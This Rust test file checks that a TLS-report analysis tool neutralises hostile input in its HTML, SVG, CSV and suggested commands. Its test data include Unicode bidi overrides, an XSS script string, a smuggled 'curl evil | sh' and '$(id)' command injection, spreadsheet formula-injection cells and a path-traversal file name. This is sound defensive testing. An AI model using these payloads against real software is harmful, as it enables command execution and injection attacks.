//! What strangers wrote, in everything that leaves the page: it turns no word around, breaks no picture, runs in no
//! spreadsheet, and comes back as it was.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    clippy::string_slice,
    reason = "tests"
)]

use std::io::Write;
use std::path::PathBuf;

use proptest::prelude::*;
use serde_json::{Value, json};
use tlsrpt_lens::analysis::{Filter, findings, overview};
use tlsrpt_lens::chart::timeline_svg;
use tlsrpt_lens::day::Day;
use tlsrpt_lens::export::{
    exported_file_name, failures_csv, picture_title, report_file_name, report_html, report_html_on, reports_ndjson,
    summary,
};
use tlsrpt_lens::intake;
use tlsrpt_lens::limits::Limits;
use tlsrpt_lens::store::Store;

/// A report in which every text is one value.
fn report(value: &str, day: u8) -> Value {
    let row = |result_type: &str, mx: &str| {
        json!({
            "result-type": result_type,
            "failed-session-count": 2,
            "receiving-mx-hostname": mx,
            "receiving-mx-helo": value,
            "receiving-ip": value,
            "sending-mta-ip": value,
            "failure-reason-code": value,
            "additional-information": value,
        })
    };
    json!({
        "organization-name": value,
        "contact-info": value,
        "date-range": {
            "start-datetime": format!("2026-03-0{day}T00:00:00Z"),
            "end-datetime": format!("2026-03-0{day}T23:59:59Z"),
        },
        "report-id": format!("{value}{day}"),
        "policies": [{
            "policy": {
                "policy-type": "sts",
                "policy-domain": value,
                "policy-string": ["version: STSv1", "mode: enforce", format!("mx: {value}"), value],
                "mx-host": [value],
            },
            "summary": { "total-successful-session-count": 10, "total-failure-session-count": 8 },
            "failure-details": [
                row(value, value),
                row("certificate-expired", value),
                row("validation-failure", ""),
                row("starttls-not-supported", value),
            ],
        }],
    })
}

fn read(store: &mut Store, file: &str, text: &str) {
    intake::read(file, text.as_bytes(), &mut Limits::default(), &mut |item| store.add(item));
}

fn loaded(value: &str) -> Store {
    let mut store = Store::default();
    for day in 1..=4 {
        read(&mut store, &format!("{value}{day}.json"), &report(value, day).to_string());
    }
    // What cannot be read is named, with where it was.
    let broken = String::from_utf8_lossy(b"{\"organization-name\": 1, \"policies\": 2").into_owned();
    read(&mut store, &format!("{value}.json"), &broken);
    store
}

/// What a person reads in all that is made of a store: words, HTML and pictures.
fn read_by_people(store: &Store) -> Vec<String> {
    let filter = Filter { policy_domain: store.columns().policy_domains.text(1).into(), ..Filter::default() };
    let mut all = Vec::new();
    for filter in [Filter::default(), filter] {
        for finding in findings(store, &filter) {
            all.push(finding.sentence);
            all.extend(finding.reasons);
            all.extend(finding.steps.into_iter().map(|step| step.text));
        }
        all.push(report_html(store, &filter, false));
        all.push(report_html(store, &filter, true));
    }
    all.push(timeline_svg(&overview(store, &Filter::default()).timeline, "Sessions"));
    for problem in store.problems() {
        all.push(problem.trail.to_string());
        all.push(problem.error.to_string());
    }
    all.extend(store.reports().flat_map(|stored| stored.trails.iter().map(ToString::to_string).collect::<Vec<_>>()));
    all
}

/// No control is obeyed, and every isolate ends in its line.
#[track_caller]
fn turns_nothing(text: &str, of: &str) {
    for line in text.split(['\n', '\r']) {
        let mut depth = 0_i32;
        for letter in line.chars() {
            match letter {
                '\u{2068}' => depth += 1,
                '\u{2069}' => depth -= 1,
                '\t' => {}
                '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2067}' | '\u{200E}' | '\u{200F}' | '\u{61C}' => {
                    panic!("{letter:?} of {of:?} in {line:?}")
                }
                other => assert!(!other.is_control() && !"\u{FFFE}\u{FFFF}".contains(other), "{other:?} in {line:?}"),
            }
            assert!(depth >= 0 && (depth > 0 || !('\u{590}'..='\u{8FF}').contains(&letter)), "{line:?}");
        }
        assert_eq!(depth, 0, "{line:?}");
    }
}

/// Values that differ in what they turn, where in the value it stands, and how often.
fn hostile() -> Vec<String> {
    vec![
        "\u{202E}liame wen 0 :koobeguH".into(),
        "mx.\u{202E}example".into(),
        "\u{202D}\u{202A}\u{202B}three that never end".into(),
        "\u{2067}\u{2066}isolates that never end".into(),
        "ends\u{2069}\u{2069}\u{202C} what it did not begin".into(),
        "שלום.example".into(),
        "مرحبا 12 34".into(),
        "mixed שלום and \u{200F}marks\u{200E}\u{61C}".into(),
        "\u{2068}its own isolate שלום\u{2069} שלום".into(),
        "\u{0}\u{1}\u{7}\u{8}\u{b}\u{c}\u{1b}[31m\u{7f}".into(),
        "\u{80}\u{85}\u{9b}31m".into(),
        "\u{FFFE}\u{FFFF}\u{FDD0}\u{1FFFE}".into(),
        "line\u{2028}and\u{2029}paragraph".into(),
        "a\r\nb\nc\rd\te".into(),
        "]]> <!-- & ' \" <script>alert(1)</script>".into(),
        format!("z{}", "\u{301}\u{489}\u{20dd}".repeat(300)),
        "\u{202E}".repeat(500),
        "x".repeat(10_000),
    ]
}

/// One place fills sentences and one writes HTML and SVG, so whatever field a value stands in goes through them;
/// `shown` itself is held against any text.
#[test]
fn nothing_that_people_read_is_turned_around() {
    for value in hostile() {
        let store = loaded(&value);
        assert!(store.len() >= 4 && store.problems().next().is_some(), "{value:?}");
        for text in read_by_people(&store) {
            turns_nothing(&text, &value);
        }
    }
}

/// The same whatever brings it, in whatever order and size: a value is made fit where it is said, not where it is read.
#[test]
fn nothing_is_turned_around_whatever_brings_it() {
    let good = report("mx.example.com", 1).to_string();
    for value in ["\u{202E}liame".to_owned(), format!("\u{2067}{}", "שלום ".repeat(300)), "\u{2066}\u{7}".repeat(500)]
    {
        let bad = report(&value, 2).to_string();
        let mail = |text: &str| {
            format!(
                "From a@b.example Sun Mar  1 00:00:00 2026\nSubject: {value}\nContent-Type: application/tlsrpt+json\n\n{text}\n\n"
            )
        };
        let packed = |text: &str| {
            let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
            gz.write_all(text.as_bytes()).unwrap();
            gz.finish().unwrap()
        };
        let containers = [
            ("good first.ndjson", format!("{good}\n{bad}\n").into_bytes()),
            ("good last.ndjson", format!("{bad}\n{good}\n").into_bytes()),
            ("box.mbox", [mail(&good), mail(&bad)].concat().into_bytes()),
            ("list.json", format!("[{bad},{good}]").into_bytes()),
            ("packed.json.gz", packed(&format!("{bad}\n{good}"))),
        ];
        for (name, bytes) in containers {
            let mut store = Store::default();
            let file = format!("{}{name}", value.chars().take(50).collect::<String>());
            intake::read(&file, &bytes, &mut Limits::default(), &mut |item| store.add(item));
            assert_eq!(store.len(), 2, "{name}");
            for text in read_by_people(&store) {
                turns_nothing(&text, &value);
            }
        }
    }
}

#[test]
fn the_handed_override_is_a_mark() {
    let folder = std::env::var_os("TLSRPT_CASES").map_or_else(|| "../shared/cases".into(), PathBuf::from);
    let Ok(bytes) = std::fs::read(folder.join("hostile/rlo-unclosed.ndjson")) else {
        return eprintln!("skipped: rlo-unclosed.ndjson is not in {}", folder.display());
    };
    let mut store = Store::default();
    intake::read("rlo-unclosed.ndjson", &bytes, &mut Limits::default(), &mut |item| store.add(item));
    assert_eq!(store.len(), 2);
    let all = read_by_people(&store);
    assert!(all.iter().any(|text| text.contains("‹U+202E›liame wen 0 :koobeguH")));
    for text in all {
        turns_nothing(&text, "the case");
    }
}

#[test]
fn pictures_are_xml_whatever_a_type_is_called() {
    let mut all = Store::default();
    for (number, value) in hostile().into_iter().enumerate() {
        let own = loaded(&value);
        read(&mut all, "all.json", &report(&format!("{number} {value}"), 1).to_string());
        for store in [&own, &all] {
            let svg = timeline_svg(&overview(store, &Filter::default()).timeline, &value);
            roxmltree::Document::parse(&svg).unwrap_or_else(|error| panic!("{error} for {value:?}"));
            let html = report_html(store, &Filter::default(), false);
            let start = html.find("<svg").expect("a picture");
            let end = html.find("</svg>").expect("its end") + "</svg>".len();
            roxmltree::Document::parse(&html[start..end]).unwrap_or_else(|error| panic!("{error} for {value:?}"));
        }
    }
}

#[test]
fn data_stay_as_they_are() {
    for value in ["\u{202E}liame", "שלום", "\u{7}\u{1b}", "a\tb"] {
        let store = loaded(value);
        let line: Value =
            serde_json::from_str(reports_ndjson(&store, &Filter::default()).lines().next().unwrap()).unwrap();
        assert_eq!(line["report"]["organization-name"], value);
        let summary = summary(&store);
        assert!(summary["by_organization"].get(value).is_some(), "{summary}");
        assert!(failures_csv(&store, &Filter::default()).contains(value));
    }
}

#[test]
fn names_of_files_are_data_for_programs_and_shown_to_people() {
    let store = loaded("שלום");
    let stored = store.report(0).unwrap();
    assert_eq!(stored.trails[0].as_data(), "שלום1.json");
    assert_eq!(stored.trails[0].to_string(), "\u{2068}שלום1.json\u{2069}");
    assert!(reports_ndjson(&store, &Filter::default()).contains("\"שלום1.json\""));
}

#[test]
fn commands_hold_no_more_than_hosts() {
    for value in ["mx; curl evil | sh", "$(id).example", "`id`", "mx.example\nid", "-proxy"] {
        for finding in findings(&loaded(value), &Filter::default()) {
            for copy in finding.steps.iter().filter_map(|step| step.copy.as_deref()) {
                assert!(!copy.starts_with("openssl") || !copy.contains(value), "{copy}");
                assert!(!copy.starts_with("curl") || !copy.contains(value), "{copy}");
            }
        }
    }
}

/// Cells that spreadsheets might run, cut or trim.
fn cell() -> impl Strategy<Value = String> {
    "'{0,3}[=+@＝＠;\t\r\n\"a, -]{1,10}x|\\PC{1,12}|[;\t\n]?[ ]?'?[=+@-]cmd[|]' /C calc'!A0"
}

/// The values of all failures in the order of the store.
fn failures(store: &Store) -> Vec<Vec<Option<String>>> {
    let mut all = Vec::new();
    for stored in store.reports() {
        for entry in &stored.report.policies {
            for row in &entry.failure_details {
                all.push(vec![
                    Some(stored.report.organization_name.clone()),
                    Some(stored.report.report_id.clone()),
                    Some(entry.policy.policy_domain.clone()),
                    Some(row.result_type.to_string()),
                    row.failure_reason_code.clone(),
                    row.receiving_mx_hostname.clone(),
                    row.receiving_mx_helo.clone(),
                    row.receiving_ip.clone(),
                    row.sending_mta_ip.clone(),
                    row.additional_information.clone(),
                ]);
            }
        }
    }
    all
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(200))]

    /// What is exported is read back unchanged, whatever the cells hold.
    #[test]
    fn failures_come_back(values in proptest::collection::vec(cell(), 10)) {
        let report = json!({
            "organization-name": values[0],
            "contact-info": "a@b.example",
            "date-range": { "start-datetime": "2026-03-01T00:00:00Z", "end-datetime": "2026-03-01T23:59:59Z" },
            "report-id": values[1],
            "policies": [{
                "policy": { "policy-type": "sts", "policy-domain": values[2] },
                "summary": { "total-successful-session-count": 10, "total-failure-session-count": 2 },
                "failure-details": [{
                    "result-type": values[3],
                    "failed-session-count": 2,
                    "failure-reason-code": values[4],
                    "receiving-mx-hostname": values[5],
                    "receiving-mx-helo": values[6],
                    "receiving-ip": values[7],
                    "sending-mta-ip": values[8],
                    "additional-information": values[9],
                }],
            }],
        });
        let (mut first, mut again) = (Store::default(), Store::default());
        read(&mut first, "r.json", &report.to_string());
        prop_assume!(first.len() == 1);
        let csv = failures_csv(&first, &Filter::default());
        read(&mut again, "failures.csv", &csv);
        prop_assert_eq!(failures(&again), failures(&first), "{}", csv);
        prop_assert_eq!(failures_csv(&again, &Filter::default()).lines().count(), csv.lines().count());
    }
}

#[test]
fn the_file_to_hand_on_is_named_by_domain_and_days() {
    for (value, name, in_title) in [
        ("example.com", "example.com-tls-2026-03-01--2026-03-01.html", "TLS report, example.com, 1 Mar 2026"),
        // What no system would take, or what turns words around, is in no name.
        ("../etc/pass\u{202E}wd", "etcpasswd-tls-2026-03-01--2026-03-01.html", "‹U+202E›"),
        ("\u{202E}", "tls-2026-03-01--2026-03-01.html", "TLS report, ‹U+202E›, 1 Mar 2026"),
    ] {
        let mut store = Store::default();
        read(&mut store, "one.json", &report(value, 1).to_string());
        let all = overview(&store, &Filter::default());
        assert_eq!(report_file_name(&all, false), name, "{value:?}");
        assert_eq!(report_file_name(&all, true), "tls-2026-03-01--2026-03-01-anonymous.html");
        let html = report_html(&store, &Filter::default(), false);
        let title = html.split_once("<title>").unwrap().1.split_once("</title>").unwrap().0;
        assert!(title.contains(in_title), "{title}");
        let hidden = report_html(&store, &Filter::default(), true);
        assert!(hidden.contains("<title>TLS report, 1 Mar 2026</title>"));
    }
    assert_eq!(report_file_name(&overview(&Store::default(), &Filter::default()), false), "tls.html");
}

/// Whoever gets it reads it later: it says how old its reports are, and how the time before was.
#[test]
fn the_report_to_hand_on_says_its_age_and_the_week_before() {
    let mut store = Store::default();
    for day in 1..=14 {
        let mut one = report("example.com", 1);
        one["report-id"] = day.to_string().into();
        one["date-range"] = serde_json::json!({
            "start-datetime": format!("2026-03-{day:02}T00:00:00Z"),
            "end-datetime": format!("2026-03-{day:02}T23:59:59Z"),
        });
        read(&mut store, "one.json", &one.to_string());
    }
    let on = |day: &str, query: &str| report_html_on(&store, &Filter::from_query(query), false, Day::parse(day));
    let old = on("2026-11-28", "");
    assert!(old.contains("The newest report is 8 months old"), "{old}");
    assert!(old.contains("8 to 14 Mar 2026:") && old.contains("compared with"), "{old}");
    assert!(!on("2026-03-20", "").contains("months old"));
    assert!(on("2026-03-20", "from=2026-03-08&to=2026-03-10").contains("in the 3 days before."));
    // Without a day it says nothing of it.
    assert!(!report_html(&store, &Filter::default(), false).contains("months old"));
}

/// A picture, taken out of where it was made, says what it is about.
#[test]
fn a_picture_says_of_what_and_when_it_is() {
    let mut store = Store::default();
    read(&mut store, "one.json", &report("example.com", 1).to_string());
    let all = overview(&store, &Filter::default());
    assert_eq!(picture_title(&all), "Sessions and failed sessions per day, example.com, 1 Mar 2026");
    assert_eq!(exported_file_name(&all, "timeline.png"), "example.com-tls-2026-03-01--2026-03-01-timeline.png");
}

/// Who gets it knows whose it is from its heading; no column is empty, and all but the foot is its main part.
#[test]
fn the_report_to_hand_on_says_whose_it_is() {
    let of = |count: usize| {
        let mut store = Store::default();
        for number in 0..count {
            let mut one = report("example.com", 1);
            one["report-id"] = number.to_string().into();
            one["policies"][0]["policy"]["policy-domain"] = format!("d{number}.example").into();
            read(&mut store, "one.json", &one.to_string());
        }
        report_html(&store, &Filter::default(), false)
    };
    assert!(of(2).contains("<h1>TLS report, d0.example, d1.example, 1 Mar 2026</h1>"));
    let many = of(150);
    assert!(many.contains("<h1>TLS report, 150 domains, 1 Mar 2026</h1>"));
    // Senders state all sessions by reporter and by policy domain alone.
    assert_eq!(many.matches("<th>Sessions</th>").count(), 2);
    assert!(!many.contains("<td></td>"));
    assert_eq!((many.matches("<main>").count(), many.matches("</main>\n<footer>").count()), (1, 1));
}
